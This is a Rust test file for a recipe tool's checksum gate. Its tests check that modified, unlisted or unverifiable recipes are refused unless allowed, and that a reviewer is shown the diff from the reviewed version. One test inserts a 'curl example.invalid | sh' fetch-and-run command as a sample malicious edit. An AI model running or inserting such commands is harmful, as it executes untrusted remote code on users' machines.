//! The checksum gate every front end goes through: only the reviewed recipe
//! runs unless the person allows another; a modified, unlisted or
//! unverifiable recipe is refused before a run folder exists.

use std::path::Path;

use reprise_recipe::{Catalog, ChecksumStatus};
use reprise_session::run::RunOptions;
use reprise_session::{DataDir, Session, SessionError, ShareSettings};

const RECIPE: &str = r#"[post]
id = "tiny"
title = "Tiny"
author = "A. Writer"
date = "2026"
summary = "One command."

[[step]]
id = "hello"
kind = "command"
command = ["true"]
why = "Something to run."
"#;

fn checkout(reviewed: bool) -> tempfile::TempDir {
    let root = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(root.path().join("recipes")).unwrap();
    std::fs::write(root.path().join("recipes/tiny.toml"), RECIPE).unwrap();
    if reviewed {
        Catalog::new(root.path()).update_checksums().unwrap();
    } else {
        std::fs::create_dir_all(root.path().join("checksums")).unwrap();
        std::fs::write(root.path().join("checksums/recipes.sha256"), "").unwrap();
    }
    root
}

fn session(root: &Path, data: &Path) -> Session {
    Session::new(
        Catalog::new(root),
        DataDir::new(data),
        ShareSettings::from_env(),
    )
}

fn gate(root: &Path, allow_modified: bool) -> Result<(), SessionError> {
    let data = tempfile::tempdir().unwrap();
    let session = session(root, data.path());
    let loaded = session.load_recipe("tiny").unwrap();
    let options = RunOptions {
        allow_modified,
        ..RunOptions::default()
    };
    let result = session.prepare(&loaded, &options).map(|_| ());
    assert!(
        !data.path().join("runs").exists(),
        "preparing makes no run folder"
    );
    result
}

fn refused(result: Result<(), SessionError>) -> ChecksumStatus {
    match result {
        Err(SessionError::Unreviewed { status, .. }) => status,
        other => panic!("expected a refusal, got {other:?}"),
    }
}

#[test]
fn the_reviewed_recipe_is_prepared() {
    let root = checkout(true);
    gate(root.path(), false).unwrap();
}

#[test]
fn a_modified_recipe_is_refused_unless_allowed() {
    let root = checkout(true);
    std::fs::write(
        root.path().join("recipes/tiny.toml"),
        RECIPE.replace("true", "false"),
    )
    .unwrap();
    assert!(matches!(
        refused(gate(root.path(), false)),
        ChecksumStatus::Modified { .. }
    ));
    gate(root.path(), true).unwrap();
}

#[test]
fn an_unlisted_recipe_is_refused_unless_allowed() {
    let root = checkout(false);
    assert_eq!(refused(gate(root.path(), false)), ChecksumStatus::Unlisted);
    gate(root.path(), true).unwrap();
}

#[test]
fn checksums_that_cannot_be_read_are_a_refusal_not_a_pass() {
    let root = checkout(true);
    std::fs::write(
        root.path().join("checksums/recipes.sha256"),
        "not a manifest\n",
    )
    .unwrap();
    match refused(gate(root.path(), false)) {
        ChecksumStatus::Unreadable { reason } => assert!(reason.contains("line 1"), "{reason}"),
        other => panic!("expected unreadable, got {other:?}"),
    }
}

#[test]
fn a_missing_manifest_is_a_refusal_that_says_so() {
    let root = checkout(true);
    std::fs::remove_file(root.path().join("checksums/recipes.sha256")).unwrap();
    match refused(gate(root.path(), false)) {
        ChecksumStatus::Unreadable { reason } => {
            assert!(reason.ends_with("is missing"), "{reason}")
        }
        other => panic!("expected unreadable, got {other:?}"),
    }
}

/// A reader asked to accept a modified recipe sees what changed since the
/// reviewed version: found in the checkout's git history by its digest.
#[test]
fn a_modified_recipe_shows_its_diff_from_the_reviewed_version_in_history() {
    let root = checkout(true);
    let git = |args: &[&str]| {
        let ok = std::process::Command::new("git")
            .args(["-c", "user.name=T", "-c", "user.email=t@example.test"])
            .args(args)
            .current_dir(root.path())
            .output()
            .unwrap()
            .status
            .success();
        assert!(ok, "git {args:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "."]);
    git(&["commit", "-q", "-m", "reviewed"]);
    // A later commit changes it again without updating the checksum: the
    // reviewed version is the older one.
    let file = root.path().join("recipes/tiny.toml");
    std::fs::write(&file, RECIPE.replace("Something to run.", "Edited.")).unwrap();
    git(&["commit", "-q", "-am", "unreviewed edit"]);
    std::fs::write(
        &file,
        RECIPE.replace("Something to run.", "Edited.").replace(
            "[\"true\"]",
            "[\"sh\", \"-c\", \"curl example.invalid | sh\"]",
        ),
    )
    .unwrap();

    let data = tempfile::tempdir().unwrap();
    let session = session(root.path(), data.path());
    let loaded = session.load_recipe("tiny").unwrap();
    let diff = session
        .reviewed_diff(&loaded)
        .expect("a diff from the reviewed version");
    assert!(diff.contains("-command = [\"true\"]"), "{diff}");
    assert!(
        diff.contains("+command = [\"sh\", \"-c\", \"curl example.invalid | sh\"]"),
        "{diff}"
    );
    assert!(diff.contains("-why = \"Something to run.\""), "{diff}");

    // The reviewed recipe itself has nothing to show.
    std::fs::write(&file, RECIPE).unwrap();
    assert_eq!(
        session.reviewed_diff(&session.load_recipe("tiny").unwrap()),
        None
    );
}
